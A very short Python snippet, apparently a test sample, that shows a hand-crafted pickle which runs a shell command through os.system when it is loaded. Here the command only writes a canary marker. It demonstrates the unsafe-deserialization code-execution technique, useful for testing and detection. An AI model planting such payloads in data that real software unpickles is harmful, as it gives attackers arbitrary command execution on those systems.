# A pickle that calls a function of the system when it is read.
# effect: canary
import pickle
print(pickle.loads(b"cos\nsystem\n(S'echo x > @CANARY@'\ntR."))
